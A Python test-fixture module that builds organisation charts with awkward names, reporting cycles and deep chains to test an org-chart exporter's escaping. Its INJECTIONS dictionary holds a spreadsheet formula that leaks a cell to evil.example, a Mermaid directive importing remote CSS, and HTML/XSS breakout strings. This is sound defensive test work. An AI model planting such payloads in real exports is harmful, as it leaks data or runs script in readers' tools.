"""Orgs built in code for the export tests: hostile names, cycles, deep chains."""

from __future__ import annotations

from orgdesign.model import Org, Person, Unit, Waiver
from orgdesign.rules.finding import Severity

HOSTILE_NAMES = {
    "ceo": 'Ada "The Boss" <Lovelace> & Co',
    "cpo": "Brackets [x] (y) {z} | pipe",
    "gpm": "Back\\slash\\ and trailing\\",
    "pm1": "New\nline and\r\ncarriage\ttab",
    "pm2": "Control\x00\x01\x07\x1b[31m chars\x7f",
    "pm3": "Markdown *bold* _it_ `code` # heading ~strike~ ![img](x)",
    "pm4": "Mermaid #quot; #35; entity-like & end",
    "pm5": "XML ]]> --> <!-- <script>alert(1)</script>",
    "pm6": "Ünïcödé 名前 🚀 \u200frtl",
    "pm7": "An extraordinarily long name that cannot possibly fit inside one box",
    "vac": "Open role",
}


def hostile_org() -> Org:
    """Every kind of awkward text, a vacancy, a dotted line, a unit and waivers."""
    people = [
        Person("ceo", HOSTILE_NAMES["ceo"], "ceo"),
        Person("cpo", HOSTILE_NAMES["cpo"], "cpo", reports_to="ceo", unit="u&1"),
        Person("gpm", HOSTILE_NAMES["gpm"], "gpm", reports_to="cpo", title='Group "PM" <lead>'),
        Person("pm1", HOSTILE_NAMES["pm1"], "pm", reports_to="gpm", dotted_to=("cpo",)),
        Person("pm2", HOSTILE_NAMES["pm2"], "pm", reports_to="gpm", notes="line one\nline two"),
        Person("pm3", HOSTILE_NAMES["pm3"], "senior_pm", reports_to="gpm", years_pm=7),
        Person("pm4", HOSTILE_NAMES["pm4"], "pm", reports_to="cpo", product="pay;ments"),
        Person(
            "pm5", HOSTILE_NAMES["pm5"], "pm", reports_to="cpo", allow=(Waiver("PRD101", 'agreed with "HR"; until Q3'),)
        ),
        Person("pm6", HOSTILE_NAMES["pm6"], "associate_pm", reports_to="pm3"),
        Person(
            "pm7",
            HOSTILE_NAMES["pm7"],
            "technical_pm",
            reports_to="pm3",
            title="Technical Product Manager, Platform & Payments",
        ),
        Person("vac", HOSTILE_NAMES["vac"], "pm", reports_to="gpm", vacancy=True),
        Person('id "quoted" <&>\\', "Weird id", "other", reports_to="ceo"),
    ]
    return Org('Hostile "org" <&> \\ [x]', people, units=[Unit("u&1", "Unit <&>")])


HOSTILE_SEVERITY = {"cpo": Severity.ERROR, "gpm": Severity.WARNING, "pm1": Severity.INFO, "vac": Severity.ERROR}


def chain_org(length: int) -> Org:
    people = [Person("p0", "Person 0", "ceo")]
    people.extend(Person(f"p{i}", f"Person {i}", "pm", reports_to=f"p{i - 1}") for i in range(1, length))
    return Org("Chain", people)


def cyclic_org() -> Org:
    """A top with a report, plus a three-person reporting cycle with someone hanging off it."""
    return Org(
        "Cycle",
        [
            Person("top", "Top", "ceo"),
            Person("r", "Report", "pm", reports_to="top"),
            Person("x", "Below the cycle", "pm", reports_to="b"),
            Person("a", "A", "pm", reports_to="c"),
            Person("b", "B", "pm", reports_to="a"),
            Person("c", "C", "pm", reports_to="b"),
        ],
    )


INJECTIONS = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "directive": "%%{init: {'themeCSS': '@import url(http://evil.example/x.css);'}}%% Eve",
    "breakout": 'Mallory"] --> x["<img src=x onerror=alert(1)>` ]] }} {{ | (( ))',
    "entity": "&amp; &lt;b&gt; &#38; R&D",
    "non_xml": "Non\ufffe\uffffXML \ud800 \x01\x1b[2K chars --",
    "lines": "two\nlines\u2028and\u2029more\x85here",
}
"""Names that try to turn an export against its reader, by their purpose."""


def injection_org() -> Org:
    """A boss and one report per hostile name; ids carry the same hostility."""
    people = [Person("boss", "Boss", "ceo")]
    people.extend(
        Person(f"{key}:{name}", name, "pm", reports_to="boss", title=name, dotted_to=("boss",) if index == 0 else ())
        for index, (key, name) in enumerate(INJECTIONS.items())
    )
    return Org(INJECTIONS["directive"], people)
